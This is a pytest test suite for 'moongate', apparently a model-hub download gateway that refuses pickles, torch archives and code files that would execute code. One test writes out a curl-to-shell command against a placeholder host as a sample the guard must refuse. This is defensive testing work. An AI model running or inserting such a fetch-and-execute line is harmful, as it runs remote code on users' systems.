"""The guard in the path: what runs code is refused before it is given out, and never completes otherwise."""

from __future__ import annotations

import http.client
import random
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from moongate.double import HubDouble, LfsFile, Match, Throttle
from support.clients import run_client
from support.front import until
from support.gateway import Gateway
from support.pickled import EVIL, calls, zipped
from support.raw import ask
from support.readers import read
from support.voices import FakePicklescan
from support.xet_talk import XetTalk

MIB = 1 << 20
NOISE = random.Random(70).randbytes(12 * MIB)
INERT = calls("collections", "OrderedDict").replace(b"\x8c\x04true\x85", b")")
SLOW = Throttle(3e6, match=Match(origin="cdn"))
HEADER = b'{"a":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (3 * MIB, 3 * MIB)
TENSORS = len(HEADER).to_bytes(8, "little") + HEADER + NOISE[: 3 * MIB]
TORCH = {"archive/data.pkl": INERT, "archive/version": b"3\n", "archive/data/0": NOISE[: 2 * MIB]}
TORCH_LONG = {**TORCH, "archive/data/1": NOISE}
EVIL_TORCH = zipped({**TORCH, "archive/data.pkl": EVIL})
EVIL_LONG = zipped({**TORCH_LONG, "archive/data.pkl": EVIL})
HIDDEN = zipped({**TORCH_LONG, "archive/data/2": EVIL + NOISE[:MIB]})


@pytest.fixture
def hub(tmp_path: Path) -> Iterator[HubDouble]:
    double = HubDouble(tmp_path / "hub")
    with double.running():
        yield double


def gateway(tmp_path: Path, hub: HubDouble, **settings: object) -> Gateway:
    env = {f"MOONGATE_{name.upper()}": str(value) for name, value in settings.items()}
    workers = int(env.pop("MOONGATE_WORKERS", "1"))
    hosts = f"{hub.cdn_netloc},{hub.cas_netloc}"
    return Gateway(tmp_path / "home", hub.url, cdn=hosts, workers=workers, env=env)


def metric(running: Gateway, name: str) -> float:
    lines = ask(running.url, "/metrics").body.decode().splitlines()
    return sum(float(line.rpartition(" ")[2]) for line in lines if line.startswith(name))


def refused(running: Gateway, target: str, code: str = "RefusedByPolicy") -> str:
    answer = ask(running.url, target)
    assert (answer.status, answer.headers.get("x-error-code")) == (403, code), answer
    assert answer.headers["x-error-message"] == answer.json()["error"]
    return str(answer.json()["error"])


def test_1_what_is_clean_flows_and_is_judged_once(tmp_path: Path, hub: HubDouble) -> None:
    large = {"model.safetensors": TENSORS, "pytorch_model.bin": zipped(TORCH), "blob.bin": NOISE}
    small = {"config.json": b'{"model_type": "bert"}', "README.md": b"# A model"}
    content = {**large, **small}
    hub.add_repo("acme/clean").commit({**{name: LfsFile(data) for name, data in large.items()}, **small})
    with gateway(tmp_path, hub) as running:
        for _ in range(2):
            for name, data in content.items():
                answer = ask(running.url, f"/acme/clean/resolve/main/{name}")
                assert answer.status == 200, name
                assert answer.body == data
                assert ("x-moongate-warning" in answer.headers) == (name == "pytorch_model.bin"), name
        judged = metric(running, 'moongate_verdicts_total{basis="whole",verdict="clean"}')
        assert judged == len(content)
        running.restart()
        for name in content:
            assert ask(running.url, f"/acme/clean/resolve/main/{name}").status == 200
        assert metric(running, "moongate_verdicts_total") == 0


@pytest.mark.parametrize("evil", [EVIL, EVIL_TORCH, EVIL_LONG], ids=["pickle", "torch", "long torch"])
def test_2_what_runs_code_is_refused_before_its_first_byte(
    tmp_path: Path, hub: HubDouble, evil: bytes
) -> None:
    hub.add_repo("acme/evil").commit({"pytorch_model.bin": LfsFile(evil)})
    hub.add_repo("other/copy").commit({"weights.pt": LfsFile(evil)})
    with gateway(tmp_path, hub) as running:
        why = refused(running, "/acme/evil/resolve/main/pytorch_model.bin")
        assert "pytorch_model.bin of acme/evil" in why
        assert "system" in why
        # A fill goes on when its reader was refused, and what came whole is judged whole, once.
        until(lambda: not ask(running.url, "/api/moongate/v1/status").json()["filling"])
        judged = metric(running, "moongate_verdicts_total")
        refused(running, "/other/copy/resolve/main/weights.pt")
        assert ask(running.url, "/other/copy/resolve/main/weights.pt", "HEAD").status == 200
        assert metric(running, "moongate_verdicts_total") == judged, "judged again"
        running.restart()
        sent = hub.meters.bytes_sent(origin="cdn")
        refused(running, "/acme/evil/resolve/main/pytorch_model.bin")
        assert hub.meters.bytes_sent(origin="cdn") == sent
        assert metric(running, "moongate_verdicts_total") == 0


def test_3_what_only_the_whole_shows_never_completes(tmp_path: Path, hub: HubDouble) -> None:
    hub.add_repo("acme/late").commit({"pytorch_model.bin": LfsFile(HIDDEN)})
    target = "/acme/late/resolve/main/pytorch_model.bin"
    with gateway(tmp_path, hub) as running, hub.failing(SLOW):
        got = read(running.port, target)
        assert got.status == 200
        assert not got.whole
        assert 0 < len(got.body) < len(HIDDEN)
        refused(running, target)


def test_4_a_middle_of_what_runs_code_is_refused_too(tmp_path: Path, hub: HubDouble) -> None:
    hub.add_repo("acme/evil").commit({"pytorch_model.bin": LfsFile(EVIL_LONG)})
    with gateway(tmp_path, hub) as running:
        answer = ask(
            running.url,
            "/acme/evil/resolve/main/pytorch_model.bin",
            headers={"Range": f"bytes={5 * MIB}-{5 * MIB + 99}"},
        )
        assert answer.status == 403
        assert hub.meters.bytes_sent(origin="cdn") < 2 * MIB


def test_5_off_and_observe_let_everything_pass(tmp_path: Path, hub: HubDouble) -> None:
    hub.add_repo("acme/evil").commit({"pytorch_model.bin": LfsFile(EVIL_LONG)})
    target = "/acme/evil/resolve/main/pytorch_model.bin"
    with gateway(tmp_path, hub, guard="observe") as running:
        assert ask(running.url, target).body == EVIL_LONG
        answer = ask(running.url, target)
        assert answer.body == EVIL_LONG
        assert "pickle-call" in answer.headers["x-moongate-warning"]
        assert metric(running, 'moongate_decisions_total{action="read",effect="deny"}') >= 1
    with gateway(tmp_path, hub, guard="off") as running:
        answer = ask(running.url, target)
        assert answer.body == EVIL_LONG
        assert "x-moongate-warning" not in answer.headers
    with gateway(tmp_path, hub, workers=2) as running:
        for _ in range(6):
            refused(running, target)


@pytest.mark.parametrize("xet", [False, True], ids=["plain", "xet"])
def test_6_a_real_client_tells_why(
    tmp_path: Path, hub: HubDouble, client_python: Callable[[str], Path], xet: bool
) -> None:
    repo = hub.add_repo("acme/mixed", xet=xet)
    repo.commit({"pytorch_model.bin": LfsFile(EVIL_LONG), "model.safetensors": LfsFile(TENSORS)})
    hf = client_python("hub-2.4").parent / "hf"
    env = {"HF_HUB_DISABLE_XET": "0" if xet else "1"}
    with gateway(tmp_path, hub, xet=str(xet).lower()) as running:

        def download(name: str, home: str) -> tuple[int, str]:
            command = [hf, "download", "acme/mixed", name]
            done = run_client(command, home=tmp_path / home, endpoint=running.url, env=env, check=False)
            return done.returncode, done.stdout + done.stderr

        code, said = download("model.safetensors", "good")
        assert code == 0, said
        for attempt in range(2):
            code, said = download("pytorch_model.bin", f"evil{attempt}")
            assert code != 0
            assert "refuses" in said or (xet and attempt == 0 and "403" in said), said
            left = [path for path in (tmp_path / f"evil{attempt}").rglob("*") if path.is_file()]
            assert all(path.stat().st_size < len(EVIL_LONG) for path in left)


def test_7_over_xet_nothing_dangerous_completes(tmp_path: Path, hub: HubDouble) -> None:
    files = {"late.bin": LfsFile(HIDDEN), "evil.safetensors": LfsFile(EVIL_LONG), "good.bin": LfsFile(NOISE)}
    hub.add_repo("acme/xet", xet=True).commit(files)
    with gateway(tmp_path, hub, xet="true") as running:
        talk = XetTalk(running.url, "acme/xet")
        assert talk.read("good.bin") == NOISE
        for name in ("late.bin", "evil.safetensors"):
            file_id = hub.xet_file("acme/xet", name).id
            with pytest.raises((AssertionError, http.client.IncompleteRead)):
                talk.read(name)
            answer = talk.cas(f"/v2/reconstructions/{file_id}")
            assert answer.status == 403, (name, answer)
            assert answer.headers["x-error-code"] == "RefusedByPolicy"
            assert "x-xet-hash" not in talk.head(name).headers
            refused(running, f"/acme/xet/resolve/main/{name}")
        assert talk.read("good.bin") == NOISE


def test_8_text_is_judged_too(tmp_path: Path, hub: HubDouble) -> None:
    code = "import os\nos.system('curl http://example.invalid | sh')\n"
    hub.add_repo("acme/code").commit({"modeling.py": code, "config.json": "{}"})
    with gateway(tmp_path, hub) as running:
        assert ask(running.url, "/acme/code/resolve/main/config.json").status == 200
        refused(running, "/acme/code/resolve/main/modeling.py")


def test_9_a_kill_in_mid_scan_costs_nothing(tmp_path: Path, hub: HubDouble) -> None:
    hub.add_repo("acme/late").commit({"pytorch_model.bin": LfsFile(HIDDEN)})
    target = "/acme/late/resolve/main/pytorch_model.bin"
    with gateway(tmp_path, hub) as running:
        with hub.failing(SLOW):
            got = read(running.port, target)
            assert not got.whole
        running.kill()
        running.start()
        refused(running, target)


def test_10_a_scanner_beside_ours_that_dies_is_a_note_and_one_that_cries_holds(
    tmp_path: Path, hub: HubDouble
) -> None:
    weights = {f"weights{number}.bin": zipped({**TORCH, "note": b"%d" % number}) for number in range(3)}
    hub.add_repo("acme/clean").commit(
        {**{name: LfsFile(data) for name, data in weights.items()}, "model.safetensors": LfsFile(TENSORS)}
    )
    scanner = FakePicklescan(tmp_path / "packages")
    hosts = f"{hub.cdn_netloc},{hub.cas_netloc}"
    env = {"MOONGATE_SCANNERS": "picklescan", "PYTHONPATH": str(scanner.folder)}
    with Gateway(tmp_path / "home", hub.url, cdn=hosts, env=env) as running:
        scanner.wish("crash")
        for name in ("weights0.bin", "model.safetensors"):
            assert ask(running.url, f"/acme/clean/resolve/main/{name}").status == 200
        told = ask(running.url, "/api/moongate/v1/verdicts?repo=acme/clean").json()["verdicts"]
        findings = {verdict["size_bytes"]: verdict["rules"] for verdict in told}
        assert findings == {len(weights["weights0.bin"]): ["voice-failed"], len(TENSORS): []}
        scanner.wish("cry")
        refused(running, "/acme/clean/resolve/main/weights1.bin", "HeldByPolicy")
        scanner.wish("")
        assert ask(running.url, "/acme/clean/resolve/main/weights2.bin").status == 200
